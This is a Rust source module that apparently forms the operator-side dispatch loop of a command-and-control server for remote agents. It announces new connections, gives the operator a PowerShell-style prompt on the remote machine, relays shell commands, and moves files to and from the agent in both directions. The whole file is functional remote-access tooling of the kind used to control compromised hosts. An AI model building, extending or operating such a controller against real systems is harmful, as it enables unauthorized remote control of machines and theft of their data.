//! Per-cycle command dispatch.
//!
//! A cycle takes one decoded [`Envelope`], folds it into the [`Session`],
//! runs any pending download, shows the operator what the agent sent, and
//! decides the next command. The result is a [`Reply`]: the response body
//! plus the control message the transport ships out of band.
//!
//! ```text
//! pending autocomplete ──► "autocomplete"
//! directory known      ──► prompt "PS {dir}> " (empty line ► listing)
//! otherwise            ──► listing (bootstrap)
//! ```
//!
//! Operator I/O goes through the [`Operator`] trait so the protocol logic
//! never touches the terminal directly.

use std::future::Future;

use tracing::{debug, warn};

use crate::command::{self, Directive, LIST_DIRECTORY, REQUEST_VOCABULARY};
use crate::envelope::{Envelope, EnvelopeKind, Tone};
use crate::session::Session;
use crate::transfer::{self, TransferError};
use crate::util;

pub const NEW_CONNECTION_NOTICE: &str = "[!] New Connection, please press ENTER!";

/// The operator side of a cycle.
pub trait Operator {
    /// Block until the operator acknowledges `notice`.
    fn acknowledge(&self, notice: &str) -> impl Future<Output = ()> + Send;

    /// Show `prompt` and wait for one command line, completing words from
    /// `vocabulary`. `None` when the operator's input is gone.
    fn read_command(
        &self,
        prompt: &str,
        vocabulary: &[String],
    ) -> impl Future<Output = Option<String>> + Send;

    /// Print a line to the operator.
    fn report(&self, text: &str, tone: Tone);
}

/// Response body of a cycle.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Body {
    /// The stock acknowledgment markup.
    Acknowledge,
    /// Base64 file content for an `upload`.
    Upload(String),
}

/// Output of a cycle: what goes in the body and the next command for the agent.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Reply {
    pub body: Body,
    pub command: String,
}

/// Run one cycle for `envelope`.
pub async fn run_cycle<O: Operator + Sync>(
    session: &mut Session,
    envelope: Envelope,
    operator: &O,
) -> Reply {
    debug!(kind = ?envelope.kind, "Envelope received");

    if envelope.kind == EnvelopeKind::NewConnection {
        operator.acknowledge(NEW_CONNECTION_NOTICE).await;
    }

    let surface = session.observe(&envelope);
    if let Some(file) = &envelope.transferred_file {
        match transfer::persist_download(file).await {
            Ok(_) => operator.report(&file.status, Tone::Success),
            Err(e) => {
                warn!("Download failed: {e}");
                operator.report("[!] Error: Writing file!", Tone::Error);
            }
        }
    } else if let Some(surface) = surface {
        operator.report(&surface.text, surface.tone);
    }

    let command = next_command(session, operator).await;
    let body = prepare_body(&command, operator).await;
    Reply { body, command }
}

/// Decide the next command from session state alone, prompting if needed.
pub async fn next_command<O: Operator + Sync>(session: &mut Session, operator: &O) -> String {
    if session.take_autocomplete_pending() {
        return REQUEST_VOCABULARY.to_string();
    }
    if session.current_directory().is_empty() {
        return LIST_DIRECTORY.to_string();
    }
    match operator
        .read_command(&session.prompt(), session.vocabulary())
        .await
    {
        Some(line) if !line.is_empty() => line,
        _ => LIST_DIRECTORY.to_string(),
    }
}

/// Validate upload/download arguments and build the body for `command`.
async fn prepare_body<O: Operator + Sync>(command: &str, operator: &O) -> Body {
    match command::parse(command) {
        Ok(Directive::Upload { source, .. }) => {
            match transfer::encode_upload(&util::local_path(&source)).await {
                Ok(content) => Body::Upload(content),
                Err(TransferError::MissingLocalFile(path)) => {
                    debug!(path = %path.display(), "Upload source missing");
                    operator.report("\r\n[!] Source file not found!", Tone::Error);
                    Body::Acknowledge
                }
                Err(e) => {
                    warn!("Upload failed: {e}");
                    operator.report(&format!("\r\n[!] {e}"), Tone::Error);
                    Body::Acknowledge
                }
            }
        }
        Ok(Directive::Download { .. } | Directive::Shell) => Body::Acknowledge,
        Err(e) => {
            debug!("Rejected command line: {e}");
            operator.report(
                "\r\n[!] Source and/or destination file not found!",
                Tone::Error,
            );
            operator.report(&format!("\t- Usage: {}\n", e.usage()), Tone::Error);
            Body::Acknowledge
        }
    }
}
